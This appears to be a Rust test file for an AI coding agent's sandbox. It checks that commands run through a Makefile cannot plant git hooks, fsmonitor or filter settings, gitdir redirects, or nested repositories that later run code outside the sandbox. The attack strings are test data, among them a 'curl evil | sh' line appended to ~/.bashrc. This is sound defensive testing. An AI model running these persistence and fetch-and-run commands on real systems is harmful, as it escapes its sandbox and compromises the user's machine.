@@ -1,0 +1,211 @@
+//! Rule: nothing a command run without asking writes can make git run code later, outside the
+//! sandbox. Project code the policy allows (`make` with a Makefile) plays the attacker, with no
+//! terminal; each case is one spelling of the same attack, and afterwards the user's own `git`
+//! (outside any sandbox) must run nothing the attacker planted.
+
+use std::path::Path;
+
+use serde_json::json;
+
+use crate::harness::Ai;
+use crate::launcher::require_sandbox;
+use crate::server::{FakeServer, text_reply, tool_reply};
+
+/// Runs `make` (whose recipe is `recipe`, each line allowed to fail) as the model's one call,
+/// in `ai`'s working directory.
+fn make_in(ai: Ai, recipe: &[&str]) -> (Ai, String) {
+    let (ai, stderr, _) = make_in_with_server(ai, recipe);
+    (ai, stderr)
+}
+
+/// The same, with the server (the requests it received).
+fn make_in_with_server(ai: Ai, recipe: &[&str]) -> (Ai, String, FakeServer) {
+    let mut makefile = String::from("all:\n");
+    for line in recipe {
+        makefile.push_str(&format!("\t-{line}\n"));
+    }
+    let ai = ai.file("Makefile", &makefile);
+    let server = FakeServer::start(vec![
+        tool_reply(&[("c1", "execute_command", json!({"command": "make"}))]),
+        text_reply("done"),
+    ]);
+    let ai = ai
+        .env("SWEBASH_AI_BASE_URL", &server.url)
+        .args(&["--json", "build it"]);
+    let run = ai.run();
+    (ai, run.stderr, server)
+}
+
+/// The user's later git commands in `dir`, outside ai; then whether anything planted ran.
+fn users_git_runs_nothing(dir: &Path, marker: &Path) -> bool {
+    for args in [
+        &["status"][..],
+        &[
+            "-c",
+            "user.name=u",
+            "-c",
+            "user.email=u@x",
+            "commit",
+            "--allow-empty",
+            "-qm",
+            "x",
+        ],
+        &["diff"],
+        &["log", "-1"],
+    ] {
+        let _ = std::process::Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("HOME", dir)
+            .output();
+    }
+    !marker.exists()
+}
+
+fn hook(marker: &Path) -> String {
+    format!("printf '#!/bin/sh\\ntouch {}\\n'", marker.display())
+}
+
+#[test]
+fn the_projects_git_dir_config_and_hooks_stay_as_they_were() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1").git_init();
+    let marker = ai.root_dir().join("pwned");
+    let m = marker.display().to_string();
+    let attacks = [
+        format!(
+            "{} > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+            hook(&marker)
+        ),
+        format!("git config core.fsmonitor 'touch {m}'"),
+        format!("printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> .git/config"),
+        "git config core.hooksPath hooks2".to_string(),
+        format!(
+            "mkdir -p hooks2 && {} > hooks2/pre-commit && chmod +x hooks2/pre-commit",
+            hook(&marker)
+        ),
+        "mv .git .git-old && mkdir .git".to_string(),
+        "rm -rf .git/hooks".to_string(),
+        format!("printf '[alias]\\n\\tst = !touch {m}\\n' > .git/info/attributes"),
+        format!("echo '* filter=x' > .gitattributes && git config filter.x.clean 'touch {m}'"),
+    ];
+    let before = std::fs::read_to_string(ai.work().join(".git/config")).unwrap();
+    let recipe: Vec<&str> = attacks.iter().map(String::as_str).collect();
+    let (ai, stderr) = make_in(ai, &recipe);
+    assert_eq!(
+        std::fs::read_to_string(ai.work().join(".git/config")).unwrap(),
+        before,
+        "{stderr}"
+    );
+    assert!(
+        !ai.work().join(".git/hooks/pre-commit").exists(),
+        "{stderr}"
+    );
+    assert!(users_git_runs_nothing(&ai.work(), &marker), "{stderr}");
+}
+
+#[test]
+fn a_git_file_naming_home_grants_nothing() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1")
+        .git_init()
+        .file("../home/.bashrc", "rc\n");
+    let bashrc = ai.home().join(".bashrc");
+    // First call: turn .git into a file naming the home directory (the mount makes it fail;
+    // where it did not, the next call must still grant nothing).
+    let gitfile = format!("rm -rf .git; echo 'gitdir: {}' > .git", ai.home().display());
+    let (ai, _) = make_in(ai, &[&gitfile, "echo 'curl evil | sh' >> ~/.bashrc"]);
+    let (ai, stderr) = make_in(ai, &["echo 'curl evil | sh' >> $(HOME)/.bashrc"]);
+    assert_eq!(
+        std::fs::read_to_string(&bashrc).unwrap(),
+        "rc\n",
+        "{stderr}"
+    );
+    assert!(ai.work().join(".git").is_dir(), "{stderr}");
+}
+
+#[test]
+fn nested_repositories_and_submodules_are_read_only_too() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1");
+    // A folder of projects: ai started in ~/code, which holds app/.git, and a submodule.
+    for repo in ["app", "lib"] {
+        let dir = ai.work().join(repo);
+        std::fs::create_dir_all(&dir).unwrap();
+        let status = std::process::Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&dir)
+            .status()
+            .unwrap();
+        assert!(status.success());
+    }
+    std::fs::create_dir_all(ai.work().join("lib/.git/modules/sub")).unwrap();
+    let marker = ai.root_dir().join("pwned");
+    let m = marker.display().to_string();
+    let attacks = [
+        format!(
+            "{} > app/.git/hooks/pre-commit; chmod +x app/.git/hooks/pre-commit",
+            hook(&marker)
+        ),
+        format!("cd app && git config core.fsmonitor 'touch {m}'"),
+        format!("printf '[core]\\n\\tfsmonitor = touch {m}\\n' > lib/.git/modules/sub/config"),
+        format!("printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> lib/.git/config"),
+    ];
+    let recipe: Vec<&str> = attacks.iter().map(String::as_str).collect();
+    let (ai, stderr) = make_in(ai, &recipe);
+    assert!(
+        !ai.work().join("app/.git/hooks/pre-commit").exists(),
+        "{stderr}"
+    );
+    assert!(
+        !ai.work().join("lib/.git/modules/sub/config").exists(),
+        "{stderr}"
+    );
+    for repo in ["app", "lib"] {
+        assert!(
+            users_git_runs_nothing(&ai.work().join(repo), &marker),
+            "{repo}: {stderr}"
+        );
+    }
+}
+
+#[test]
+fn a_repository_made_during_a_call_is_moved_aside() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1");
+    let marker = ai.root_dir().join("pwned");
+    let m = marker.display().to_string();
+    let attacks = [
+        // No repository here yet: plant one at the root, and one deeper, and a gitfile.
+        format!("git init -q . && git config core.fsmonitor 'touch {m}'"),
+        format!(
+            "mkdir -p deep/er && cd deep/er && git init -q && git config core.fsmonitor 'touch {m}'"
+        ),
+        "mkdir -p other && echo 'gitdir: /etc' > other/.git".to_string(),
+    ];
+    let recipe: Vec<&str> = attacks.iter().map(String::as_str).collect();
+    let (ai, stderr, server) = make_in_with_server(ai, &recipe);
+    for dir in [".", "deep/er", "other"] {
+        assert!(
+            !ai.work().join(dir).join(".git").exists(),
+            "{dir}: {stderr}"
+        );
+    }
+    assert!(ai.work().join(".git.ai-quarantined").exists(), "{stderr}");
+    assert!(
+        users_git_runs_nothing(&ai.work().join("deep/er"), &marker),
+        "{stderr}"
+    );
+    // The model is told, so it does not go on as if the repository were there.
+    let result = server.last_tool_result();
+    assert!(result.to_string().contains("moved aside"), "{result}");
+}
